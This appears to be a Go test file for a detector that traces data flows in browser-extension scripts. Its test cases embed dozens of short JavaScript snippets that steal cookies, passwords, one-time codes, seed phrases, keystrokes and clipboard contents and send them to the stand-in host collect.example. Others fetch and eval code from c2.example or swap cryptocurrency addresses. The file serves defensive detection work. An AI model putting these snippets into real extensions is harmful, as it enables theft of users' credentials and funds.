@@ -1,0 +1,167 @@
+package behavior
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestFlowsOfSourcesAndSinks(t *testing.T) {
+	const page = "https://www.exchange.test/*"
+	for _, c := range []flowCase{
+		// Sources.
+		{"document.cookie", Content, `fetch("https://collect.example/?c=" + document.cookie)`, []string{"document.cookie(" + page + ") > fetch > collect.example"}},
+		{"request headers", "", `chrome.webRequest.onBeforeSendHeaders.addListener(d => { const h = d.requestHeaders.find(x => x.name == "Authorization"); fetch("https://collect.example/", {body: h.value}) }, {urls: ["*://*.exchange.test/*"]}, ["requestHeaders"])`, []string{"request_headers(*://*.exchange.test/*) > fetch > collect.example"}},
+		{"request body", "", `chrome.webRequest.onBeforeRequest.addListener(d => { navigator.sendBeacon("https://collect.example/", JSON.stringify(d.requestBody)) }, {urls: ["<all_urls>"]}, ["requestBody"])`, []string{"request_body(<all_urls>) > beacon > collect.example"}},
+		{"cookie watcher", "", `chrome.cookies.onChanged.addListener(i => fetch("https://collect.example/", {body: JSON.stringify(i.cookie)}))`, []string{"cookies > fetch > collect.example"}},
+		{"local storage item", Content, `fetch("https://collect.example/", {body: localStorage.getItem("user_auth")})`, []string{"storage_token(user_auth) > fetch > collect.example"}},
+		{"local storage dump", Content, `fetch("https://collect.example/", {body: JSON.stringify(localStorage)})`, []string{"storage_token > fetch > collect.example"}},
+		{"local storage loop", Content, `const o = {}; for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); o[k] = localStorage.getItem(k) } fetch("https://collect.example/", {body: JSON.stringify(o)})`, []string{"storage_token > fetch > collect.example"}},
+		{"local storage entries", Content, `fetch("https://collect.example/", {body: JSON.stringify(Object.entries(sessionStorage))})`, []string{"storage_token > fetch > collect.example"}},
+		{"password", Content, `document.addEventListener("submit", () => { const p = document.querySelector("input[type=password]").value; fetch("https://collect.example/", {body: p}) })`, []string{"password_field(input[type=password]) > fetch > collect.example"}},
+		{"all passwords", Content, `document.querySelectorAll('input[type="password"]').forEach(i => fetch("https://collect.example/?p=" + i.value))`, []string{`password_field(input[type="password"]) > fetch > collect.example`}},
+		{"one-time code", Content, `const c = document.getElementById("otp").value; new Image().src = "https://collect.example/?c=" + c`, []string{"otp_field(#otp) > image > collect.example"}},
+		{"seed in a popup", Popup, `document.getElementById("import").onclick = () => { const w = document.getElementById("mnemonic").value; fetch("https://collect.example/", {method: "POST", body: w}) }`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
+		{"seed by name", Background, `class Vault { async unlock(p) { const v = await this.decrypt(p); post(v.mnemonic) } } function post(m) { fetch("https://collect.example/", {body: m}) }`, []string{"seed_input(mnemonic) > fetch > collect.example"}},
+		{"keys", Content, `let buf = ""; document.addEventListener("keydown", e => { buf += e.key }, true); setInterval(() => fetch("https://collect.example/", {body: buf}), 1000)`, []string{"key_events(keydown) > fetch > collect.example"}},
+		{"onkeypress", Content, `document.onkeypress = function(e){ new Image().src = "https://collect.example/?k=" + e.keyCode }`, []string{"key_events(keypress) > image > collect.example"}},
+		{"clipboard", Content, `navigator.clipboard.readText().then(t => fetch("https://collect.example/", {body: t}))`, []string{"clipboard > fetch > collect.example"}},
+		{"paste", Content, `document.addEventListener("paste", e => fetch("https://collect.example/", {body: e.clipboardData.getData("text")}))`, []string{"clipboard > fetch > collect.example"}},
+		{"page text", Content, `fetch("https://collect.example/", {body: document.documentElement.outerHTML})`, []string{"page_text(" + page + ") > fetch > collect.example"}},
+		{"element text", Content, `const k = document.querySelector(".secret").innerText; fetch("https://collect.example/", {body: k})`, []string{"page_text(" + page + ") > fetch > collect.example"}},
+		{"form", Content, `document.forms[0].addEventListener("submit", e => fetch("https://collect.example/", {body: new FormData(e.target)}))`, []string{"form_data(" + page + ") > fetch > collect.example"}},
+		{"screenshot", "", `chrome.tabs.captureVisibleTab(null, {}, d => fetch("https://collect.example/", {body: d}))`, []string{"screenshot > fetch > collect.example"}},
+		{"history", "", `chrome.history.search({text: ""}, h => fetch("https://collect.example/", {body: JSON.stringify(h)}))`, []string{"history > fetch > collect.example"}},
+		{"tabs", "", `chrome.tabs.query({}, t => fetch("https://collect.example/", {body: t.map(x => x.url).join()}))`, []string{"tab_urls > fetch > collect.example"}},
+		{"management", "", `chrome.management.getAll(l => fetch("https://collect.example/", {body: JSON.stringify(l)}))`, []string{"management > fetch > collect.example"}},
+		{"debugger", "", `chrome.debugger.onEvent.addListener((s, m, p) => fetch("https://collect.example/", {body: p.response.body}))`, []string{"debugger > fetch > collect.example"}},
+		// Sinks.
+		{"xhr", "", `chrome.cookies.getAll({}, c => { const x = new XMLHttpRequest(); x.open("POST", "https://collect.example/"); x.send(JSON.stringify(c)) })`, []string{"cookies > xhr > collect.example"}},
+		{"beacon", "", `chrome.cookies.getAll({}, c => navigator.sendBeacon("https://collect.example/", c))`, []string{"cookies > beacon > collect.example"}},
+		{"socket", "", `const w = new WebSocket("wss://collect.example/ws"); w.onopen = () => chrome.cookies.getAll({}, c => w.send(JSON.stringify(c)))`, []string{"cookies > websocket > collect.example"}},
+		{"socket in a class", "", `class C { constructor(){ this.ws = new WebSocket("wss://collect.example/") } send(o){ this.ws.send(JSON.stringify(o)) } } const c = new C(); chrome.cookies.getAll({}, x => c.send({x}))`, []string{"cookies > websocket > collect.example"}},
+		{"image", "", `chrome.cookies.getAll({}, c => { const i = document.createElement("img"); i.src = "https://collect.example/?c=" + c[0].value })`, []string{"cookies > image > collect.example"}},
+		{"script", Content, `const s = document.createElement("script"); s.src = "https://collect.example/?c=" + document.cookie; document.head.appendChild(s)`, []string{"document.cookie(" + page + ") > script_src > collect.example"}},
+		{"frame", Content, `const s = document.createElement("iframe"); s.setAttribute("src", "https://collect.example/?c=" + document.cookie); document.body.append(s)`, []string{"document.cookie(" + page + ") > iframe > collect.example"}},
+		{"form submit", Content, `const f = document.createElement("form"); f.action = "https://collect.example/"; const i = document.createElement("input"); i.value = document.cookie; f.appendChild(i); f.submit()`, []string{"document.cookie(" + page + ") > form_submit > collect.example"}},
+		{"location", Content, `location.href = "https://collect.example/?c=" + document.cookie`, []string{"document.cookie(" + page + ") > navigation > collect.example"}},
+		{"tab", "", `chrome.cookies.getAll({}, c => chrome.tabs.create({url: "https://collect.example/?c=" + c[0].value}))`, []string{"cookies > navigation > collect.example"}},
+		{"native", "", `chrome.cookies.getAll({}, c => chrome.runtime.sendNativeMessage("host", {c}))`, []string{"cookies > native_message"}},
+		{"jquery", Content, `$.ajax({url: "https://collect.example/", type: "POST", data: {c: document.cookie}})`, []string{"document.cookie(" + page + ") > http_client > collect.example"}},
+		{"jquery post", Content, `$.post("https://collect.example/", {p: $("#password").val()})`, []string{"password_field(#password) > http_client > collect.example"}},
+		{"axios", "", `chrome.cookies.getAll({}, c => axios.post("https://collect.example/", c))`, []string{"cookies > http_client > collect.example"}},
+		{"unknown client", "", `chrome.cookies.getAll({}, c => ky.post("https://collect.example/", {json: c}))`, []string{"cookies > http_client > collect.example"}},
+		{"unknown host", "", `chrome.storage.local.get("c2", r => chrome.cookies.getAll({}, c => fetch(r.c2, {body: JSON.stringify(c)})))`, []string{"cookies > fetch > *"}},
+		// Reverse flows.
+		{"eval", "", `fetch("https://c2.example/").then(r => r.text()).then(t => eval(t))`, []string{"network(c2.example) > eval"}},
+		{"Function", "", `fetch("https://c2.example/").then(r => r.text()).then(t => new Function(t)())`, []string{"network(c2.example) > eval"}},
+		{"timer", "", `fetch("https://c2.example/").then(async r => setTimeout(await r.text(), 10))`, []string{"network(c2.example) > timer_string"}},
+		{"xhr to eval", "", `var x = new XMLHttpRequest(); x.open("GET", "https://c2.example/"); x.onload = function(){ eval(x.responseText) }; x.send()`, []string{"network(c2.example) > eval"}},
+		{"storage to attribute", Content, `chrome.storage.local.get("p", r => { const i = document.createElement("img"); i.setAttribute("onload", r.p); document.body.append(i) })`, []string{"storage(p) > on_attribute"}},
+		{"storage to script", Content, `chrome.storage.local.get(["code"], ({code}) => { const s = document.createElement("script"); s.textContent = code; document.head.append(s) })`, []string{"storage(code) > script_text"}},
+		{"socket to html", Content, `const w = new WebSocket("wss://c2.example/"); w.onmessage = e => { document.body.innerHTML = e.data }`, []string{"network(c2.example) > dom_value", "network(c2.example) > inner_html"}},
+		{"network to frame", Content, `fetch("https://c2.example/").then(r => r.json()).then(j => { const f = document.createElement("iframe"); f.src = j.url; document.body.append(f) })`, []string{"network(c2.example) > iframe > *"}},
+		{"network to tab", "", `fetch("https://c2.example/").then(r => r.json()).then(j => chrome.tabs.update(1, {url: j.url}))`, []string{"network(c2.example) > navigation > *"}},
+		{"network to rules", "", `fetch("https://c2.example/").then(r => r.json()).then(rules => chrome.declarativeNetRequest.updateDynamicRules({addRules: rules}))`, []string{"network(c2.example) > header_rules"}},
+		{"network to injected code", "", `fetch("https://c2.example/").then(r => r.text()).then(code => chrome.tabs.executeScript(1, {code}))`, []string{"network(c2.example) > execute_script"}},
+		{"network to page value", Content, `fetch("https://c2.example/").then(r => r.json()).then(j => { document.querySelector("#address").value = j.a })`, []string{"network(c2.example) > dom_value"}},
+		{"network to cookies", "", `fetch("https://c2.example/").then(r => r.json()).then(l => l.forEach(c => chrome.cookies.set(c)))`, []string{"network(c2.example) > set_cookie"}},
+		{"constant address", Content, `document.querySelector("#address").value = "0x52908400098527886E0F7030069857D2E4169EE7"`, []string{"constant_address(0x52908400098527886E0F7030069857D2E4169EE7) > dom_value"}},
+		{"address table", Content, `const a = {btc: "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", eth: "0x52908400098527886E0F7030069857D2E4169EE7"}; document.addEventListener("copy", e => { for (const k in a) e.clipboardData.setData("text/plain", a[k]) })`, []string{"constant_address(0x52908400098527886E0F7030069857D2E4169EE7) > clipboard", "constant_address(1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa) > clipboard"}},
+		{"address by pattern", Content, `navigator.clipboard.readText().then(t => { if (/^0x/.test(t)) navigator.clipboard.writeText(t.replace(/0x[0-9a-f]{40}/i, "0x52908400098527886E0F7030069857D2E4169EE7")) })`, []string{"constant_address(0x52908400098527886E0F7030069857D2E4169EE7) > clipboard"}},
+		{"copy command", Content, `const t = document.createElement("textarea"); t.value = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"; document.body.append(t); t.select(); document.execCommand("copy")`, []string{"constant_address(bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4) > clipboard"}},
+		{"wallet request", PageWorld, `window.ethereum.request({method: "eth_sendTransaction", params: [{to: "0x52908400098527886E0F7030069857D2E4169EE7"}]})`, []string{"constant_address(0x52908400098527886E0F7030069857D2E4169EE7) > wallet_request"}},
+		{"hook", PageWorld, `const f = window.fetch; window.fetch = async function(u, o){ const b = o.body; f("https://collect.example/", {body: b}); return f(u, o) }`, []string{"request_body(" + page + ") > fetch > collect.example"}},
+		// Across contexts, within one script.
+		{"injected function", "", `chrome.scripting.executeScript({target: {tabId: 1}, func: () => document.cookie}, r => fetch("https://collect.example/", {body: r[0].result}))`, []string{"document.cookie > fetch > collect.example"}},
+		{"stored", "", `chrome.cookies.getAll({}, c => chrome.storage.local.set({jar: c})); chrome.alarms.onAlarm.addListener(() => chrome.storage.local.get("jar", r => fetch("https://collect.example/", {body: JSON.stringify(r.jar)})))`, []string{"cookies > fetch > collect.example"}},
+		{"stored, promise", "", `async function a(){ const {jar} = await chrome.storage.local.get({jar: []}); fetch("https://collect.example/", {body: jar}) } chrome.cookies.getAll({}, async c => { await chrome.storage.local.set({jar: c}); a() })`, []string{"cookies > fetch > collect.example"}},
+		{"storage changes", "", `chrome.storage.onChanged.addListener(c => fetch("https://collect.example/", {body: c.jar.newValue})); chrome.cookies.getAll({}, jar => chrome.storage.local.set({jar}))`, []string{"cookies > fetch > collect.example"}},
+	} {
+		t.Run(c.name, c.run)
+	}
+}
+
+func TestHonestScriptsHaveNoFlows(t *testing.T) {
+	for _, c := range []flowCase{
+		{"export on click", "", `chrome.action.onClicked.addListener(() => chrome.cookies.getAll({}, c => { document.querySelector("pre").textContent = JSON.stringify(c) }))`, nil},
+		{"count only", "", `chrome.cookies.getAll({}, c => fetch("https://vendor.test/", {body: c.length}))`, nil},
+		{"test only", "", `chrome.cookies.getAll({}, c => { const has = c.some(x => x.name == "a"); fetch("https://vendor.test/", {body: JSON.stringify({has})}) })`, nil},
+		{"constant request", "", `fetch("https://vendor.test/ping", {method: "POST", body: "hello"})`, nil},
+		{"another value", "", `chrome.cookies.getAll({}, c => { let d = c; d = "none"; fetch("https://vendor.test/", {body: d}) })`, nil},
+		{"another function's argument", "", `function id(x){ return x } id(document.cookie); fetch("https://vendor.test/", {body: id("a")})`, nil},
+		{"another message", "", `chrome.runtime.onMessage.addListener(m => { if (m.type == "ping") fetch("https://vendor.test/", {body: m.data}) }); chrome.cookies.getAll({}, data => chrome.runtime.sendMessage({type: "jar", data}))`, nil},
+		{"another key", "", `chrome.cookies.getAll({}, c => chrome.storage.local.set({jar: c})); chrome.storage.local.get("other", r => fetch("https://vendor.test/", {body: r.other}))`, nil},
+		{"another field", "", `const s = {a: 1}; chrome.cookies.getAll({}, c => { s.jar = c }); fetch("https://vendor.test/", {body: s.a})`, nil},
+		{"relative address", Content, `fetch("/api/session", {body: document.cookie})`, nil},
+		{"own resource", Content, `fetch(chrome.runtime.getURL("data.json") + "?" + document.cookie)`, nil},
+		{"network to text of own element", Content, `fetch("https://vendor.test/").then(r => r.text()).then(t => { const d = document.createElement("div"); d.textContent = t })`, nil},
+		{"network to own page", Popup, `fetch("https://vendor.test/").then(r => r.text()).then(t => { document.getElementById("x").textContent = t })`, nil},
+		{"address as text", Background, `console.log("0x52908400098527886E0F7030069857D2E4169EE7")`, nil},
+		{"address filler", Content, `document.querySelector("#a").value = "0x0000000000000000000000000000000000000000"`, nil},
+		{"shadowed", "", `(function(chrome){ chrome.cookies.getAll({}, c => fetch("https://vendor.test/", {body: c})) })({cookies: {getAll(q, f){ f([]) }}})`, nil},
+		{"typed only when used", Content, `document.addEventListener("keydown", e => { if (e.key == "Escape") close() })`, nil},
+		{"tab moved", "", `chrome.tabs.query({}, t => chrome.tabs.update(t[0].id, {active: true}))`, nil},
+		{"password strength", Content, `const p = document.querySelector("input[type=password]"); const n = p.value.length; fetch("https://vendor.test/?n=" + n)`, nil},
+	} {
+		t.Run(c.name, c.run)
+	}
+}
+
+func TestFlowsBetweenScripts(t *testing.T) {
+	bg := func(s string) *unit { return testUnit(t, "bg.js", Background, s) }
+	cs := func(s string) *unit { return testUnit(t, "cs.js", Content, s) }
+	for _, c := range []struct {
+		name  string
+		units []*unit
+		flows []string
+	}{
+		{"message", []*unit{cs(`chrome.runtime.sendMessage({type: "c", data: document.cookie})`),
+			bg(`chrome.runtime.onMessage.addListener((m, s, r) => { switch (m.type) { case "c": fetch("https://collect.example/", {body: m.data}) } })`)},
+			[]string{"document.cookie(https://www.exchange.test/*) > fetch > collect.example"}},
+		{"answer", []*unit{cs(`chrome.runtime.sendMessage({type: "get"}, r => { const s = document.createElement("script"); s.textContent = r.code; document.head.append(s) })`),
+			bg(`chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://c2.example/").then(r => r.text()).then(code => reply({code})); return true })`)},
+			[]string{"network(c2.example) > script_text"}},
+		{"promise answer", []*unit{cs(`(async () => { const r = await browser.runtime.sendMessage({type: "get"}); eval(r.code) })()`),
+			bg(`browser.runtime.onMessage.addListener(async m => { const r = await fetch("https://c2.example/"); return {code: await r.text()} })`)},
+			[]string{"network(c2.example) > eval"}},
+		{"to a tab", []*unit{bg(`chrome.cookies.getAll({}, c => chrome.tabs.sendMessage(1, {c}))`),
+			cs(`chrome.runtime.onMessage.addListener(m => { new Image().src = "https://collect.example/?" + JSON.stringify(m.c) })`)},
+			[]string{"cookies > image > collect.example"}},
+		{"port", []*unit{cs(`const p = chrome.runtime.connect({name: "x"}); p.postMessage({c: document.cookie})`),
+			bg(`chrome.runtime.onConnect.addListener(p => p.onMessage.addListener(m => fetch("https://collect.example/", {body: m.c})))`)},
+			[]string{"document.cookie(https://www.exchange.test/*) > fetch > collect.example"}},
+		{"window message", []*unit{testUnit(t, "page.js", PageWorld, `window.postMessage({from: "x", token: localStorage.getItem("jwt")}, "*")`),
+			cs(`window.addEventListener("message", e => { if (e.data.from == "x") fetch("https://collect.example/", {body: e.data.token}) })`)},
+			[]string{"storage_token(jwt) > fetch > collect.example"}},
+		{"storage", []*unit{cs(`chrome.storage.local.set({t: localStorage.getItem("jwt")})`),
+			bg(`chrome.storage.local.get(null, all => fetch("https://collect.example/", {body: JSON.stringify(all)}))`)},
+			[]string{"storage_token(jwt) > fetch > collect.example"}},
+		{"shared global", []*unit{cs(`var send = d => fetch("https://collect.example/", {body: d})`), testUnit(t, "cs2.js", Content, `send(document.cookie)`)},
+			[]string{"document.cookie(https://www.exchange.test/*) > fetch > collect.example"}},
+		{"window property", []*unit{testUnit(t, "cs2.js", Content, `setTimeout(() => window.out(document.cookie), 1)`), cs(`window.out = d => fetch("https://collect.example/", {body: d})`)},
+			[]string{"document.cookie(https://www.exchange.test/*) > fetch > collect.example"}},
+		{"module", []*unit{module(t, "js/out.js", `export const host = "collect.example"; export default function out(d){ fetch("https://" + host, {body: d}) }`),
+			module(t, "bg.js", `import out from "./js/out.js"; chrome.cookies.getAll({}, out)`)},
+			[]string{"cookies > fetch > collect.example"}},
+		{"module namespace", []*unit{module(t, "bg.js", `import * as net from "./net.js"; chrome.cookies.getAll({}, c => net.send(c))`),
+			module(t, "net.js", `function post(d){ fetch("https://collect.example/", {body: d}) } export { post as send }`)},
+			[]string{"cookies > fetch > collect.example"}},
+		{"dynamic import", []*unit{bg(`import("./net.js").then(n => chrome.cookies.getAll({}, c => n.send(c)))`),
+			module(t, "net.js", `export function send(d){ fetch("https://collect.example/", {body: d}) }`)},
+			[]string{"cookies > fetch > collect.example"}},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			got := flowTexts(analyzeText(t, c.units...))
+			if !slices.Equal(got, c.flows) {
+				t.Errorf("flows:\n  got  %s\n  want %s", strings.Join(got, "\n       "), strings.Join(c.flows, "\n       "))
+			}
+		})
+	}
+}
+
+func module(t *testing.T, file, text string) *unit {
+	u := testUnit(t, file, Background, text)
+	u.module = true
+	return u
+}
